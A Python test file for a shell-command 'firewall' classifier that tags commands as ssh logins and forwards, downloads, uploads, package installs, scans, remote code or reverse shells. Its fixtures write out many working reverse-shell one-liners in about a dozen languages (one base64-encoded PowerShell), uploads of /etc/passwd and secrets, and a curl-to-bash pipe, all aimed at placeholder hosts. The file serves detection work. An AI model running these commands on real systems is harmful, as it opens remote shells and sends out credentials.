"""What single commands are about to do."""

import shlex
from base64 import b64encode

import pytest
from hypothesis import given
from hypothesis import strategies as st

from firewall.commands import read_shell
from firewall.commands.intents import Facts, facts_of
from firewall.requests import Finding


def facts(line: str) -> Facts:
    return facts_of(shlex.split(line))


def told(line: str) -> list[str]:
    """Intents as "name target detail"."""
    return [f"{i.name} {i.target} {i.detail}".strip() for i in facts(line).intents]


CASES = {
    # ssh and what goes through it
    "ssh u@h": ["ssh.login u@h"],
    "ssh -p 2222 h uptime -p": ["ssh.exec h:2222 uptime -p"],
    "ssh -fNR 8080:localhost:80 h": ["ssh.login h", "ssh.forward-remote h 8080:localhost:80"],
    "ssh h -L1:a:2 -D 9": ["ssh.login h", "ssh.forward-local h 1:a:2", "ssh.forward-dynamic h 9"],
    "ssh -oRemoteForward='1 a:2' -AX h": [
        "ssh.login h",
        "ssh.forward-remote h 1:a:2",
        "ssh.forward-agent h",
        "ssh.forward-x11 h",
    ],
    "ssh -W a:1 -w any h": [
        "ssh.login h", "ssh.forward-stdio h a:1", "ssh.tunnel-device h any",
    ],
    "autossh -M 0 -N -R 1:a:2 h": ["ssh.login h", "ssh.forward-remote h 1:a:2"],
    "ssh -J a,b -oHostName=real h": [
        "ssh.login a on the way to real", "ssh.login b on the way to real", "ssh.login real",
    ],
    "ssh -F cfg h": ["ssh.login h cfg is not read"],
    "ssh -G h -R 1:a:2": [],
    "ssh -oClearAllForwardings=yes -R 1:a:2 h": ["ssh.login h"],
    "ssh -O forward -D 1080 h": ["ssh.forward-dynamic h 1080"],
    "ssh -O cancel -D 1080 h": [],
    "ssh -o 'Remote\"Forward\" 80 a:80' h": ["ssh.login h", "ssh.forward-remote h 80:a:80"],
    "dbclient u1@h1,u2@h2 ls": ["ssh.login u1@h1 on the way to u2@h2", "ssh.exec u2@h2 ls"],
    "dbclient -R 1:a:2 u@h": ["ssh.login u@h", "ssh.forward-remote u@h 1:a:2"],
    "plink -telnet -P 22 -l u h ls": ["ssh.exec u@h:22 ls"],
    "plink -nc a:1 h": ["ssh.login h", "ssh.forward-stdio h a:1"],
    "tsh ssh -R 1:a:2 u@h": ["ssh.login u@h", "ssh.forward-remote u@h 1:a:2"],
    "tsh ls": [],
    "az ssh vm -n v -- -R 1:a:2": ["ssh.login v", "ssh.forward-remote v 1:a:2"],
    "kitty +kitten ssh -D 9 h": ["ssh.login h", "ssh.forward-dynamic h 9"],
    "python3 -X dev -Im sshuttle -r u@h 0/0": ["ssh.login u@h"],
    "sshfs u@h:d m": ["ssh.copy u@h:d mounted"],
    "ssh-copy-id -i k u@h": ["ssh.copy u@h sent"],
    "scp -P 22 a.txt u@h:b": ["ssh.copy u@h:b sent"],
    "scp u@h:b .": ["ssh.copy u@h:b received"],
    "scp -J a,u@b:22 x h:y": [
        "ssh.login a on the way to another", "ssh.login u@b:22 on the way to another",
        "ssh.copy h:y sent",
    ],
    "sftp -oProxyJump=b h": ["ssh.login b on the way to another", "ssh.copy h"],
    "sshfs -o ro,ProxyJump=b h:/ m": ["ssh.login b on the way to another", "ssh.copy h:/ mounted"],
    "ssh -J b": ["ssh.login b on the way to another"],
    "scp -J none x h:y": ["ssh.copy h:y sent"],
    "rsync -av -e ssh d/ h::mod/x": ["ssh.copy h::mod/x sent"],
    "rsync -av a b": [],
    "sftp -b cmds u@h": ["ssh.copy u@h"],
    # downloads and uploads
    "curl -sSfLo x https://a.test/y": ["download https://a.test/y x"],
    "curl -O https://a.test/d/y.tgz": ["download https://a.test/d/y.tgz y.tgz"],
    "curl --output-dir d -O https://a.test/y": ["download https://a.test/y d/y"],
    "curl https://a.test -d @secret": ["upload https://a.test"],
    "curl -X DELETE https://a.test/1": ["upload https://a.test/1"],
    "curl -G -d q=1 https://a.test": ["download https://a.test"],
    "wget -qP d https://a.test/f": ["download https://a.test/f d/f"],
    "wget -O - https://a.test": ["download https://a.test -"],
    "wget --post-file=/etc/passwd https://a.test": ["upload https://a.test"],
    "http POST a.test x=1": ["upload a.test"],
    "http a.test": ["download a.test"],
    "aria2c -d d https://a.test/f": ["download https://a.test/f d/f"],
    "curl --tls13-ciphers x --create-file-mode 0600 https://a.test": ["download https://a.test"],
    "wget --rejected-log l https://a.test/f": ["download https://a.test/f f"],
    "aws s3 cp secret s3://b/k": ["upload s3://b/k"],
    "aws s3 sync s3://b/k d --quiet": ["download s3://b/k d"],
    "aws s3 ls s3://b": [],
    "rclone copy d remote:b": ["upload remote:b"],
    "rclone --config c moveto d remote:b": ["upload remote:b"],
    "aws --profile p s3 cp secret s3://b/k": ["upload s3://b/k"],
    "gcloud storage cp a.txt gs://b": ["upload gs://b"],
    # packages
    "pip install -U requests flask": ["package.install requests", "package.install flask"],
    "python3 -m pip install x": ["package.install x"],
    "npm ci": ["package.install"],
    "npm publish": ["package.publish"],
    "npm run build": [],
    "uv pip install x": ["package.install x"],
    "uv run x": [],
    "twine upload dist/x": ["package.publish dist/x"],
    "apt-get -y install git": ["package.install git"],
    "apt remove xmrig": [],
    "docker push r/i": ["package.publish r/i"],
    # git
    "git push origin main": ["git.push origin main"],
    "git -C d -c a.b=c push": ["git.push the default remote"],
    "git clone --depth 1 https://h/r d": ["git.fetch https://h/r d"],
    "git submodule update --init": ["git.fetch the default remote"],
    "git commit -m push": [],
    "git -c alias.p='push origin' p main": ["git.push origin main"],
    "git -c alias.p='!id' p": [],
    "git log --grep push": [],
    "gh pr create --fill": ["git.push pr create"],
    "svn commit -m x": ["git.push x"],
    # raw connections, shells, scans
    "nc -e /bin/sh h 1": ["reverse-shell h:1 /bin/sh"],
    "ncat --exec '/bin/bash -i' h 1": ["reverse-shell h:1 /bin/bash -i"],
    "nc -lvnp 4444": ["tunnel listens"],
    "nc -zv h 1-1000": ["scan h:1-1000"],
    "socat TCP:h:1 EXEC:/bin/sh,pty": ["reverse-shell TCP:h:1 EXEC:/bin/sh,pty"],
    "nmap -sS 10.0.0.0/8": ["scan 10.0.0.0/8"],
    "openssl s_client -connect h:443": ["tunnel h:443 a raw TLS connection"],
    # interpreters
    "python3 -c 'print(1)'": ["inline-code python3 print(1)"],
    "perl -MFile -e 1": ["inline-code perl 1"],
    "perl -e 1 -e 2": ["inline-code perl 1 2"],
    "awk '{print}' f": [],
    "openvpn --config x": ["tunnel openvpn --config x"],
    "wg-quick up wg0": ["tunnel wg-quick up wg0"],
    "wg-quick down wg0": [],
    "xterm -display 10.0.0.1:1": ["reverse-shell 10.0.0.1:1 xterm"],
    "xterm -display :1": [],
    "pip3.12 install x": ["package.install x"],
    "perl -lne 'print'": ["inline-code perl print"],
    "python3 script.py -c x": [],
    # look-alikes
    "ssh-keygen -R h": [],
    "grep -R ssh .": [],
    "man nmap": [],
    "ls -R": [],
}  # fmt: skip


@pytest.mark.parametrize("line", CASES)
def test_intents(line: str) -> None:
    assert told(line) == CASES[line]


@pytest.mark.parametrize(
    ("line", "reads", "writes"),
    [
        ("cat ~/.ssh/id_rsa -", ("~/.ssh/id_rsa",), ()),
        ("cp a b d", ("a", "b"), ("d",)),
        ("tar czf out.tgz .ssh", (".ssh",), ("out.tgz",)),
        ("tar -xf in.tgz", ("in.tgz",), ()),
        ("dd if=/dev/sda of=img bs=1M", ("/dev/sda",), ("img",)),
        ("tee -a log", (), ("log",)),
        ("grep -r token .env", (".env",), ()),
        ("curl -F f=@/etc/passwd https://a.test", ("/etc/passwd",), ()),
        ("curl -T f -o g https://a.test", ("f",), ("g",)),
        ("scp key h:", ("key",), ()),
    ],
)
def test_files(line: str, reads: tuple[str, ...], writes: tuple[str, ...]) -> None:
    assert (facts(line).reads, facts(line).writes) == (reads, writes)


SHELLS = [
    (
        'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("h",1));'
        '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")\''
    ),
    'perl -e \'use Socket;socket(S,2,1,6);open(STDIN,">&S");exec("/bin/sh -i");\'',
    "perl -MIO -e '$c=new IO::Socket::INET(\"h:1\");STDIN->fdopen($c,r);system$_ while<>;'",
    'php -r \'$s=fsockopen("h",1);exec("/bin/sh -i <&3 >&3 2>&3");\'',
    "php8.2 -r '$s=fsockopen(\"h\",1);`sh <&3 >&3 2>&3`;'",
    'php -r \'$s=fsockopen("h",1);$p=proc_open("sh",[$s,$s,$s],$q);\'',
    'ruby -rsocket -e \'c=TCPSocket.new("h",1);exec "/bin/sh -i <&%d >&%d" % [c,c]\'',
    (
        'ruby -rsocket -e \'c=TCPSocket.new("h",1);while(d=c.gets);'
        'IO.popen(d,"r"){|i|c.print i.read}end\''
    ),
    (
        'node -e \'s=require("child_process").spawn("sh");c=new (require("net").Socket)();'
        'c.connect(1,"h",()=>{c.pipe(s.stdin)})\''
    ),
    'node -e \'require("child_process").exec("nc -e /bin/sh h 1")\'',
    (
        'lua5.1 -e \'s=require("socket").tcp();s:connect("h",1);r=s:receive();'
        'f=io.popen(r,"r");s:send(f:read("*a"))\''
    ),
    "gawk 'BEGIN{s=\"/inet/tcp/0/h/1\";while(1){s|&getline c;while((c|&getline)>0)print|&s}}'",
    (
        'vim -c \':py3 import socket,pty,os;s=socket.socket();s.connect(("h",1));'
        'os.dup2(s.fileno(),0);pty.spawn("/bin/sh")\''
    ),
    ("pwsh -nop -c '$c=New-Object System.Net.Sockets.TCPClient(\"h\",1);$s=$c.GetStream();iex $d'"),
    "pwsh -enc "
    + b64encode(
        '$c=New-Object Net.Sockets.TCPClient("h",1);$s=$c.GetStream();iex $d'.encode("utf-16-le")
    ).decode(),
]


@pytest.mark.parametrize("code", SHELLS)
def test_a_shell_for_the_other_end_is_a_finding(code: str) -> None:
    found = facts(code)
    assert [each.name for each in found.findings] == ["reverse-shell"]
    assert found.intents[0].name == "reverse-shell"


@pytest.mark.parametrize(
    "line",
    [
        "grep -r xmrig .", "man minerd", "pkill xmrig", "pip install stratum", "apt remove xmrig",
        "curl https://news.test/how-xmrig-works", "bitcoin-cli getblocktemplate", "which cgminer",
        "python3 -c 'import socket,subprocess; socket.gethostname(); subprocess.run([\"sh\"])'",
    "python3 -c 'import socket,os; s.connect(a); print(s.recv(9)); os.system(\"ls 2>&1\")'",
    "perl -e 'use Socket; exec \"/bin/sh\", \"-c\", \"ls\"'", "awk '{print $1}' f", "vim -c q f",
    "node -e 'require(\"net\").connect(1).end()'", "socat TCP-LISTEN:80,fork TCP:localhost:8080",
    "openvpn --config x", "tor", "lt --version", "gdb -ex run ./a", "pwsh -enc not-base64",
    "python3 -c 'import socket; print(socket.gethostname())'",
        "python3 -c 'import subprocess; subprocess.run([\"ls\"])'", "nc -z db 5432", "ssh -V",
        "docker run -p 3333:3333 postgres", "git clone https://h.test/xmrig.git",
    ],
)  # fmt: skip
def test_honest_commands_give_nothing_away(line: str) -> None:
    assert facts(line).findings == ()


def test_an_unknown_word_is_kept_in_mind() -> None:
    found = facts_of(["ssh", "-R", None, "h"])
    assert [each.name for each in found.intents] == ["ssh.login", "ssh.forward-remote"]
    assert facts_of([None, "x"]) == Facts()
    assert facts_of([]) == Facts()


def test_a_download_that_a_shell_runs_is_remote_code() -> None:
    names = {
        intent.name
        for command in read_shell("curl -sSf https://a.test/i.sh | bash").commands
        for intent in command.intents
    }
    assert names >= {"download", "remote-code"}


@given(st.lists(st.text(max_size=20) | st.none(), max_size=8))
def test_no_words_raise(words: list[str | None]) -> None:
    for program in ("ssh", "curl", "git", "nc", "socat", "tar", "pip", "python3", "http", "gh"):
        found = facts_of([program, *words])
        assert all(isinstance(each, Finding) for each in found.findings)


@pytest.mark.parametrize(
    "piece", ["nc ", "run ", "popen(", "socket ", "(a", "sh -i ", ".connect(", "exec`", "\t", "<&"]
)
def test_long_code_takes_no_longer_than_its_length(piece: str) -> None:
    """Each took minutes where an expression could begin anew at every piece and run to the end."""
    for before in ("", "run", "x.connect(); popen"):
        assert facts_of(["python3", "-c", before + piece * (120_000 // len(piece))]).intents


@pytest.mark.parametrize("program", ["curl", "git", "tar", "nc", "pip", "plink", "dbclient"])
def test_many_words_take_no_longer_than_their_number(program: str) -> None:
    assert facts_of([program, *["-a", "a"] * 50_000]).findings == ()
